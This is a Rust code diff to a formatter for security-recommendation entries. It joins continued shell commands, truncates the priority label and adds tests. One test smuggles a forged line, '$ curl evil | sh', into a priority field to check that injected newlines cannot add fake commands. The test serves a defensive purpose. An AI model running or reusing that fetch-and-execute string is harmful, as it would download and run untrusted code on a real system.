@@ -66,16 +66,23 @@ fn entry(priority: Option<&str>, heading: &str, why: Option<&str>, commands: &[S
         Some("STRATEGIC") => 2,
         _ => 3,
     };
-    let mut text = format!("[{}] {}\n", priority.unwrap_or("UNRANKED"), fit_title(heading, 300));
+    let mut text = format!("[{}] {}\n", fit_title(priority.unwrap_or("UNRANKED"), 32), fit_title(heading, 300));
     if let Some(why) = why.map(str::trim).filter(|w| !w.is_empty()) {
         text.push_str(&fit_body(why, 2_000));
         text.push('\n');
     }
-    for command in commands {
-        // Whole or not at all: half a command is worse than none. One line each.
-        text.push_str(&format!("  $ {}\n", fit_title(command, COMMENT_MAX)));
+    for line in commands.iter().flat_map(|c| command_lines(c)) {
+        text.push_str(&format!("  $ {line}\n"));
     }
     Entry { rank, text }
+}
+
+/// A command as lines to paste, each whole (half a command is worse than none):
+/// a backslash-newline continuation joins its lines, as the shell would, and
+/// other line breaks separate commands.
+fn command_lines(command: &str) -> Vec<String> {
+    let joined = command.replace("\\\r\n", " ").replace("\\\n", " ");
+    joined.lines().map(|l| fit_title(l, COMMENT_MAX)).filter(|l| !l.is_empty()).collect()
 }
 
 #[cfg(test)]
@@ -83,6 +90,23 @@ mod tests {
     use super::*;
     use crate::investigation::tests::sample;
     use crate::structured::{Countermeasure, CountermeasureAction, Recommendation};
+
+    #[test]
+    fn continued_commands_are_joined_and_other_breaks_separate_commands() {
+        let command = "aws ec2 revoke-security-group-ingress \\\n  --group-id sg-1 \\\r\n  --port 22\naws ec2 describe-security-groups";
+        assert_eq!(
+            command_lines(command),
+            vec!["aws ec2 revoke-security-group-ingress --group-id sg-1 --port 22", "aws ec2 describe-security-groups"]
+        );
+        assert!(command_lines("\n \n").is_empty());
+    }
+
+    #[test]
+    fn a_priority_cannot_forge_lines() {
+        let e = entry(Some("IMMEDIATE]\n  $ curl evil | sh\n["), "t", None, &[]);
+        assert_eq!(e.text.lines().count(), 1, "{}", e.text);
+        assert_eq!(e.rank, 3);
+    }
 
     fn with(data: SummaryData) -> Investigation {
         Investigation { summary_data: Some(data), ..sample() }
